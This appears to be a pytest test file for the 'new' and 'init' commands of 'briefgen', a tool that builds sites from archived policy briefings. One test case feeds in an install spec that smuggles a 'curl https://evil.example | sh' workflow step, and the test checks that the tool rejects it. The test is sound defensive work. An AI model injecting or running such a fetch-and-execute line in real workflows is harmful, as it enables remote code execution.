"""`briefgen new` and `briefgen init`: what they write passes `check --strict`, and they never replace a file."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import pytest

from briefgen import __version__
from briefgen.build import build_site
from briefgen.cli import main
from briefgen.load import load_archive
from briefgen.scaffold import EXAMPLE_BRIEFING, INSTALL_PLACEHOLDER, PAGES_WORKFLOW, STARTER_FILES, starter_text
from tests.sitetools import snapshot

SOURCES = """\
isw:
  name: Institute for the Study of War
  url: https://www.understandingwar.org
wilson-center:
  name: Wilson Center
"""


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A site root with two sources and no briefing yet."""
    (tmp_path / "briefings").mkdir()
    (tmp_path / "sources.yaml").write_text(SOURCES, encoding="utf-8")
    return tmp_path


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """`briefgen ARGS` in-process: (exit code, stdout, stderr)."""
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def new(capsys: pytest.CaptureFixture[str], root: Path, *args: str) -> tuple[int, str, str]:
    return run(capsys, "new", "--root", str(root), *args)


# briefgen new


def test_new_writes_a_dated_file_that_passes_strict_check(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = new(
        capsys, root, "--source", "isw", "--title", "Russian Offensive Campaign Assessment", "--date", "2025-06-27"
    )
    assert (code, err) == (0, "")
    path = root / "briefings/2025/06/27/isw-russian-offensive-campaign-assessment.md"
    assert out == f"{path}\n"
    assert path.is_file()
    assert run(capsys, "check", "--strict", "--root", str(root))[:2] == (
        0,
        "checked 1 briefing: 0 errors, 0 warnings\n",
    )
    (briefing,), warnings = load_archive(root)[0].briefings, load_archive(root)[1]
    assert warnings == ()
    assert (briefing.title, briefing.date, briefing.source.key) == (
        "Russian Offensive Campaign Assessment",
        dt.date(2025, 6, 27),
        "isw",
    )


def test_new_defaults_to_today(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = dt.date.today()
    code, out, _ = new(capsys, root, "--source", "isw", "--title", "Daily update")
    days = {f"{day:%Y/%m/%d}" for day in (before, dt.date.today())}
    assert code == 0
    assert any(out.strip().endswith(f"briefings/{day}/isw-daily-update.md") for day in days), out


def test_new_does_not_repeat_a_source_key_the_title_starts_with(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = new(capsys, root, "--source", "isw", "--title", "ISW: North Korean troops", "--date", "2025-06-26")
    assert code == 0
    assert out.strip().endswith("briefings/2025/06/26/isw-north-korean-troops.md")


def test_new_accepts_an_organisation_name_for_the_source(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = new(
        capsys, root, "--source", "wilson center", "--title", "Forced displacement", "--date", "2025-06-26"
    )
    assert code == 0
    path = Path(out.strip())
    assert path.name == "wilson-center-forced-displacement.md"
    assert "\nsource: wilson-center\n" in path.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "title",
    [
        'Kyiv: "strikes" #3 — yes',
        "1984",
        "yes",
        "null",
        "- a dash, then [1] and *stars*",
        "'single quotes' and a back\\slash",
        "Київ під ударом: 서울 and عربي",
        "{not: a mapping}",
    ],
)
def test_new_keeps_any_title_exactly(root: Path, capsys: pytest.CaptureFixture[str], title: str) -> None:
    assert new(capsys, root, "--source", "isw", "--title", title, "--date", "2025-06-26")[0] == 0
    assert run(capsys, "check", "--strict", "--root", str(root))[0] == 0
    archive = load_archive(root)[0]
    (briefing,) = archive.briefings
    assert briefing.title == title


def test_new_makes_a_title_one_line(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert new(capsys, root, "--source", "isw", "--title", "  Two\nlines\t ", "--date", "2025-06-26")[0] == 0
    archive = load_archive(root)[0]
    (briefing,) = archive.briefings
    assert briefing.title == "Two lines"


def test_new_hints_are_valid_front_matter_once_uncommented(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = Path(new(capsys, root, "--source", "isw", "--title", "Hints", "--date", "2025-06-26")[1].strip())
    text = path.read_text(encoding="utf-8")
    hint = re.compile(r"^# (?=(?:url|authors|tags|places|takeaways|footnotes):|  )", re.MULTILINE)
    assert len(hint.findall(text)) == 9, text
    path.write_text(hint.sub("", text), encoding="utf-8")
    code, _, err = run(capsys, "check", "--root", str(root))
    assert code == 0, err
    assert "note 1 is never cited" in err  # as the hint says: cite it with [1]

    path.write_text(hint.sub("", text) + "The claim.[1]\n", encoding="utf-8")
    assert run(capsys, "check", "--strict", "--root", str(root))[0] == 0
    archive = load_archive(root)[0]
    (briefing,) = archive.briefings
    assert len(briefing.takeaways_html) == 2
    assert [note.number for note in archive.bodies.body(briefing).footnotes] == [1]
    assert [tag.slug for tag in briefing.terms["tags"]] == ["air-defense", "ceasefire"]
    assert briefing.url == "https://www.example.org/report"


def test_new_never_replaces_a_file(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    args = ("--source", "isw", "--title", "Same title", "--date", "2025-06-26")
    path = Path(new(capsys, root, *args)[1].strip())
    path.write_text("edited by hand\n", encoding="utf-8")
    code, out, err = new(capsys, root, *args)
    assert (code, out) == (1, "")
    assert f"{path} already exists" in err
    assert path.read_text(encoding="utf-8") == "edited by hand\n"


def test_new_names_the_known_sources_for_an_unknown_one(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = new(capsys, root, "--source", "iws", "--title", "A report", "--date", "2025-06-26")
    assert (code, out) == (1, "")
    assert "unknown source 'iws' (did you mean 'isw'?)" in err
    assert "isw, wilson-center" in err
    assert list((root / "briefings").rglob("*.md")) == []


def test_new_outside_a_site_root_points_to_init(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = new(capsys, tmp_path, "--source", "isw", "--title", "A report")
    assert code == 1
    assert "is not a briefgen site root" in err
    assert "briefgen init" in err
    assert list(tmp_path.iterdir()) == []


def test_new_in_a_site_root_without_sources_yaml_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "briefings").mkdir()
    code, _, err = new(capsys, tmp_path, "--source", "isw", "--title", "A report")
    assert code == 1
    assert "there is no sources.yaml" in err


@pytest.mark.parametrize(
    ("date", "expected"),
    [
        ("2025-6-1", "'2025-6-1' is not a date written YYYY-MM-DD"),
        ("26.06.2025", "'26.06.2025' is not a date written YYYY-MM-DD"),
        ("2025-02-30", "'2025-02-30' is not a calendar date: February 2025 has 28 days"),
        ("2025-13-01", "'2025-13-01' is not a calendar date: there is no month 13 (months run 01 to 12)"),
    ],
)
def test_new_refuses_a_date_that_is_not_yyyy_mm_dd(
    root: Path, capsys: pytest.CaptureFixture[str], date: str, expected: str
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["new", "--root", str(root), "--source", "isw", "--title", "A report", "--date", date])
    assert exit_info.value.code == 2
    assert expected in capsys.readouterr().err


# briefgen init


def test_init_writes_a_site_that_checks_and_builds(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "archive"
    code, out, err = run(capsys, "init", str(folder))
    assert (code, err) == (0, "")
    assert snapshot(folder).keys() == set(STARTER_FILES)
    for path in STARTER_FILES:
        assert path in out
    assert "site/" in (folder / ".gitignore").read_text(encoding="utf-8").splitlines()
    pinned = f"run: pip install briefgen=={__version__}"
    assert (folder / PAGES_WORKFLOW).read_text(encoding="utf-8") == starter_text("pages.yml").replace(
        INSTALL_PLACEHOLDER, pinned
    )
    assert f"{PAGES_WORKFLOW} installs briefgen from the package index, pinned to the version that wrote it:" in out
    assert f"\n  pip install briefgen=={__version__}\n" in out
    assert run(capsys, "check", "--strict", "--root", str(folder))[0] == 0
    report = build_site(folder)
    assert (report.output / "index.html").is_file()
    example = report.output / EXAMPLE_BRIEFING.removesuffix(".md") / "index.html"
    assert "How a briefing is written" in example.read_text(encoding="utf-8")


def test_init_adds_to_a_folder_with_other_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "README.md").write_text("# Our archive\n", encoding="utf-8")
    (tmp_path / ".git").mkdir()
    assert run(capsys, "init", str(tmp_path))[0] == 0
    assert (tmp_path / "README.md").read_text(encoding="utf-8") == "# Our archive\n"
    assert (tmp_path / "briefgen.yaml").is_file()


def test_init_never_replaces_a_file_and_then_writes_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "sources.yaml").write_text("# ours\n", encoding="utf-8")
    (tmp_path / ".gitignore").write_text("*.pyc\n", encoding="utf-8")
    before = snapshot(tmp_path)
    code, out, err = run(capsys, "init", str(tmp_path))
    assert (code, out) == (1, "")
    assert "it already has sources.yaml, .gitignore" in err
    assert snapshot(tmp_path) == before


def test_init_twice_refuses_the_second_time(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "init", str(tmp_path))[0] == 0
    before = snapshot(tmp_path)
    assert run(capsys, "init", str(tmp_path))[0] == 1
    assert snapshot(tmp_path) == before


def test_init_leaves_out_the_example_when_there_are_briefings(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    ours = tmp_path / "briefings" / "2025" / "ours.md"
    ours.parent.mkdir(parents=True)
    ours.write_text("---\ntitle: Ours\ndate: 2025-06-26\nsource: ours\n---\nText.\n", encoding="utf-8")
    assert run(capsys, "init", str(tmp_path))[0] == 0
    assert not (tmp_path / EXAMPLE_BRIEFING).exists()
    assert list((tmp_path / "briefings").rglob("*.md")) == [ours]


def test_init_refuses_a_file_for_a_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "taken").write_text("", encoding="utf-8")
    code, _, err = run(capsys, "init", str(tmp_path / "taken"))
    assert code == 1
    assert "is not a folder" in err


def test_init_install_from_a_wheel_in_the_repository(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    wheel = f"vendor/briefgen-{__version__}-py3-none-any.whl"
    code, out, err = run(capsys, "init", str(tmp_path), "--install-from", wheel)
    assert (code, err) == (0, "")
    assert f"        run: pip install {wheel}\n" in (tmp_path / PAGES_WORKFLOW).read_text(encoding="utf-8")
    assert f"from a file in the archive's repository, which must be committed with it ({tmp_path / wheel}" in out
    assert f"\n  pip install {wheel}\n" in out


def test_init_quotes_an_install_from_for_the_shell(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    spec = "briefgen @ https://files.example.org/briefgen-0.2.0-py3-none-any.whl"
    code, out, _ = run(capsys, "init", str(tmp_path), "--install-from", spec)
    assert code == 0
    assert f"        run: pip install '{spec}'\n" in (tmp_path / PAGES_WORKFLOW).read_text(encoding="utf-8")
    assert f"\n  pip install '{spec}'\n" in out


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        ("briefgen", f"'briefgen' is not one version: write briefgen=={__version__}"),
        ("briefgen==0.1\n      - run: curl https://evil.example | sh", "line break"),
        ("git+https://github.com/org/briefgen", "names no tag or commit"),
        ("/home/me/briefgen-0.1.0-py3-none-any.whl", "outside the archive's repository"),
    ],
)
def test_init_refuses_an_install_from_it_cannot_pin_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], spec: str, message: str
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["init", str(tmp_path / "archive"), "--install-from", spec])
    assert exit_info.value.code == 2
    err = capsys.readouterr().err
    assert "argument --install-from:" in err
    assert message in err
    assert "Traceback" not in err
    assert not (tmp_path / "archive").exists()


def test_init_then_new_with_the_example_source(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "init", str(tmp_path))[0] == 0
    assert new(capsys, tmp_path, "--source", "example-desk", "--title", "First report", "--date", "2025-06-27")[0] == 0
    assert run(capsys, "check", "--strict", "--root", str(tmp_path))[:2] == (
        0,
        "checked 2 briefings: 0 errors, 0 warnings\n",
    )


# help and version


def test_help_names_every_command(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["--help"])
    assert exit_info.value.code == 0
    out = capsys.readouterr().out
    for command in ("init", "new", "serve", "check", "build"):
        assert re.search(rf"^\s+{command}\s+\S", out, re.MULTILINE), f"{command} missing from --help:\n{out}"


@pytest.mark.parametrize(
    ("command", "options"),
    [
        ("new", ["--source", "--title", "--date", "--root"]),
        ("serve", ["--port", "--root"]),
        ("init", ["DIR", "--install-from"]),
    ],
)
def test_each_new_command_explains_its_options(
    capsys: pytest.CaptureFixture[str], command: str, options: list[str]
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main([command, "--help"])
    assert exit_info.value.code == 0
    out = capsys.readouterr().out
    for option in options:
        assert option in out


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["--version"])
    assert exit_info.value.code == 0
    assert re.fullmatch(r"briefgen \S+\n", capsys.readouterr().out)
